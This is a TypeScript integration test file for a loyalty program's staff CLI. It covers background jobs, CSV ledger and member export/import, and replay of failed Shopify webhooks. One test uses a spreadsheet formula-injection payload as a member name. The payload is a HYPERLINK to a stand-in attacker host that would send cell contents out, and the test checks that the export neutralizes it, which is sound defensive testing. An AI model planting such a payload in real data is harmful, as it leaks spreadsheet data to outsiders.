/**
 * The staff CLI's admin commands against the real club: a job run (and its
 * rerun changing nothing), the name index backfill, phones moved to E.164, the failed webhook deliveries listed and replayed,
 * one member's ledger exported.
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { DeleteCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { nameIndexEntries } from '../../shared/domain/names';
import { nameIndexKey } from '../../shared/store/keys';
import { DEFAULT_TIER } from '../../shared/domain/member';
import { wiring } from '../../shared/wiring';
import { webhookQueueService } from '../../local/webhook-queue';
import { runCli } from '../support/cli';
import { startTestClub, type TestClub } from '../support/club';
import { fixture, sendShopify, useWebhookSecrets, waitFor, waitForBalance } from '../support/webhooks';

let club: TestClub;
const dir = mkdtempSync(join(tmpdir(), 'loyalty-cli-admin-'));

beforeAll(async () => {
  useWebhookSecrets();
  club = await startTestClub({
    services: [webhookQueueService({ visibilityTimeoutSeconds: 1, waitTimeSeconds: 1, batchWindowMs: 20, maxReceives: 2 })],
  });
});
afterAll(() => club?.stop());

describe('loyalty jobs run', () => {
  it('runs the one-off normalize-phones: a phone kept as typed moves to E.164, and a rerun changes nothing', async () => {
    // As an earlier version kept it: as typed, claimed by its digits.
    const at = new Date().toISOString();
    const legacy = {
      memberId: 'job-phone',
      phone: '+98 (912) 555-0001',
      externalIds: {},
      tier: DEFAULT_TIER,
      balance: 0,
      lifetimePoints: 0,
      lots: [],
      joinedAt: at,
      seq: 0,
      profileVersion: 1,
    };
    expect(await wiring().jobs.store.createMember(legacy)).toBe('created');
    const run = await runCli(club, ['jobs', 'run', 'normalize-phones']);
    expect(run.code, run.stderr).toBe(0);
    expect(JSON.parse(run.stdout.trim().split('\n').at(-1)!)).toMatchObject({
      job: 'normalize-phones',
      complete: true,
      processed: 1,
      conflicted: 0,
    });
    expect((await club.api('GET', '/v1/members/job-phone')).body.phone).toBe('+989125550001');
    const again = await runCli(club, ['jobs', 'run', 'normalize-phones']);
    expect(JSON.parse(again.stdout.trim().split('\n').at(-1)!)).toMatchObject({ complete: true, processed: 0 });
  });

  it('runs the maintenance job reindex-names: a member without name index items is found by name after it', async () => {
    expect((await club.api('POST', '/v1/members', { memberId: 'job-names', name: 'Bijan Mortazavi' })).status).toBe(201);
    // As if enrolled before the name index existed.
    for (const entry of nameIndexEntries('Bijan Mortazavi')) {
      await club.client.send(new DeleteCommand({ TableName: club.tableName, Key: nameIndexKey(entry, 'job-names') }));
    }
    const find = async () => (await club.api('GET', '/v1/members?name=mortazavi')).body.items.map((m: { memberId: string }) => m.memberId);
    expect(await find()).toEqual([]);
    const run = await runCli(club, ['jobs', 'run', 'reindex-names']);
    expect(run.code, run.stderr).toBe(0);
    expect(JSON.parse(run.stdout.trim().split('\n').at(-1)!)).toMatchObject({
      job: 'reindex-names',
      complete: true,
      processed: 1,
      itemsPut: 2,
    });
    expect(await find()).toEqual(['job-names']);
    const again = await runCli(club, ['jobs', 'run', 'reindex-names']);
    expect(JSON.parse(again.stdout.trim().split('\n').at(-1)!)).toMatchObject({ processed: 0, itemsPut: 0 });
  });

  it('runs a job as of a time, and the rerun changes nothing', async () => {
    expect((await club.api('POST', '/v1/members', { memberId: 'job-1' })).status).toBe(201);
    const earn = await club.api('POST', '/v1/earn', {
      memberId: 'job-1',
      orderId: 'job-o1',
      amount: '40.00',
      currency: 'USD',
      occurredAt: '2025-01-10T10:00:00Z',
    });
    expect(earn.status).toBe(200);

    const run = await runCli(club, ['jobs', 'run', 'expire-points', '--as-of', '2026-02-01T00:00:00Z']);
    expect(run.code, run.stderr).toBe(0);
    const result = JSON.parse(run.stdout.trim().split('\n').at(-1)!);
    expect(result).toMatchObject({ job: 'expire-points', complete: true });
    expect(result.processed).toBeGreaterThanOrEqual(1);
    expect((await club.api('GET', '/v1/members/job-1')).body.balance).toBe(0);

    const again = await runCli(club, ['jobs', 'run', 'expire-points', '--as-of', '2026-02-01T00:00:00Z']);
    expect(JSON.parse(again.stdout.trim().split('\n').at(-1)!).processed).toBe(0);

    const ledger = join(dir, 'job-1.csv');
    const exported = await runCli(club, ['export', 'ledger', ledger, '--member', 'job-1']);
    expect(exported.code, exported.stderr).toBe(0);
    const text = readFileSync(ledger, 'utf8');
    expect(text.startsWith('\uFEFFmemberId,'), 'a BOM, so Excel reads UTF-8').toBe(true);
    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.memberId, r.type, r.points, r.balanceAfter])).toEqual([
      ['job-1', 'expire', '-40', '0'],
      ['job-1', 'earn', '40', '40'],
    ]);
  });

  it('exports members so a spreadsheet shows formula-like names as text, and imports that file back', async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A1,"سارا")';
    expect(
      (await club.api('POST', '/v1/members', { memberId: 'csv-formula', email: 'formula@example.com', name, birthday: '--12-10' })).status,
    ).toBe(201);
    const file = join(dir, 'members.csv');
    const exported = await runCli(club, ['export', 'members', file]);
    expect(exported.code, exported.stderr).toBe(0);
    const text = readFileSync(file, 'utf8');
    expect(text.startsWith('\uFEFFmemberId,'), 'a BOM, so Excel reads Persian as UTF-8').toBe(true);
    const row = (parse(text, { bom: true, columns: true }) as Record<string, string>[]).find((r) => r.memberId === 'csv-formula')!;
    expect(row).toMatchObject({ name: `'${name}`, birthday: "'--12-10", balance: '0' });

    const imported = await runCli(club, ['import', 'members', file]);
    expect(imported.code, imported.stderr).toBe(0);
    const state = JSON.parse(readFileSync(`${file}.import-state.json`, 'utf8'));
    expect(state.counts).toMatchObject({ failed: 0, created: 0 });
    expect((await club.api('GET', '/v1/members/csv-formula')).body).toMatchObject({ name, birthday: '--12-10' });
  });

  it('says what is wrong with the command line', async () => {
    const bad = await runCli(club, ['jobs', 'run', 'expire-points', '--as-of', 'yesterday']);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toMatch(/--as-of must be an ISO 8601 time/);
    const unknown = await runCli(club, ['frobnicate']);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toMatch(/unknown command "frobnicate"[\s\S]*--help/);
  });
});

describe('loyalty deliveries', () => {
  it('lists a parked refund, and replays it once its order is there', async () => {
    const orderId = 777001;
    const refund = fixture('shopify-refunds-create.json');
    refund.id = 777002;
    refund.order_id = orderId;
    refund.refund_line_items[0].subtotal = 199;
    refund.refund_line_items[0].subtotal_set.shop_money.amount = '199.00';
    expect((await sendShopify(club, { topic: 'refunds/create', body: refund })).status).toBe(202);

    const listed = await waitFor(
      async () => {
        const run = await runCli(club, ['deliveries', 'list']);
        return run.stdout.includes('ORDER_NOT_FOUND') ? run : undefined;
      },
      'the orphan refund in the failed list',
      30_000,
    );
    expect(listed.code).toBe(0);
    const id = listed.stdout.split('\t')[0]!;
    expect(id).toMatch(/^shopify-[0-9a-f]{32}$/);

    const order = fixture('shopify-orders-paid.json');
    order.id = orderId;
    order.customer.id = 777003;
    order.customer.email = order.email = order.contact_email = 'cli-replay@example.com';
    order.subtotal_price = '398.00';
    await sendShopify(club, { topic: 'orders/paid', body: order });
    await waitForBalance(club, 'shopifyCustomerId=777003', 398);

    const replay = await runCli(club, ['deliveries', 'replay', '--all-failed']);
    expect(replay.code, replay.stderr + replay.stdout).toBe(0);
    expect(replay.stdout).toContain(`${id}\treplayed`);
    expect(replay.stdout).toContain('1 of 1 replayed.');
    await waitForBalance(club, 'shopifyCustomerId=777003', 199);

    const empty = await runCli(club, ['deliveries', 'list']);
    expect(empty.stdout.trim()).toBe('No failed deliveries.');
    const replayed = await runCli(club, ['deliveries', 'list', '--status', 'replayed', '--json']);
    expect(JSON.parse(replayed.stdout)).toMatchObject([{ id, status: 'replayed' }]);
  }, 60_000);
});
